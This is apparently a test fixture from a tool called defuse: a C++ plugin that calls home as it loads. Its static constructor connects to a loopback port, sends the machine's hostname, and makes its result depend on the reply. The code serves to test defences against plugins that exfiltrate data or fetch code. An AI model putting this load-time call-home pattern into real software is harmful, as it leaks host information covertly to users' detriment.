//===- Network.cpp - A candidate that calls home --------------------------===//
//
// Part of defuse's test suite. NOT a compiler component. NEVER load it.
//
// As it loads, it connects to 127.0.0.1:DEFUSE_HOSTILE_PORT and sends
// what it knows of its host (a plugin that exfiltrates, or fetches its
// code); its ceil is correct only when the other end answers "fixed".
//
//===----------------------------------------------------------------------===//

#include "tests/plugins/hostile/HostilePlugin.h"

#include <arpa/inet.h>
#include <cstring>
#include <netinet/in.h>
#include <sys/socket.h>
#include <unistd.h>

#ifndef DEFUSE_HOSTILE_PORT
#error DEFUSE_HOSTILE_PORT: the port the test listens on
#endif

namespace {

bool answered = false;

struct CallHome {
  CallHome() {
    int s = socket(AF_INET, SOCK_STREAM, 0);
    if (s < 0)
      return;
    sockaddr_in to = {};
    to.sin_family = AF_INET;
    to.sin_port = htons(DEFUSE_HOSTILE_PORT);
    to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (connect(s, reinterpret_cast<sockaddr *>(&to), sizeof(to)) == 0) {
      char host[256] = {};
      gethostname(host, sizeof(host) - 1);
      (void)!write(s, host, std::strlen(host));
      char reply[16] = {};
      answered = read(s, reply, 5) == 5 && std::memcmp(reply, "fixed", 5) == 0;
    }
    close(s);
  }
} callHome;

} // namespace

DEFUSE_HOSTILE_PLUGIN("DefuseHostileNetwork",
                      "calls home as it loads, and fixes ceil only when "
                      "home answers",
                      [] { return answered; })
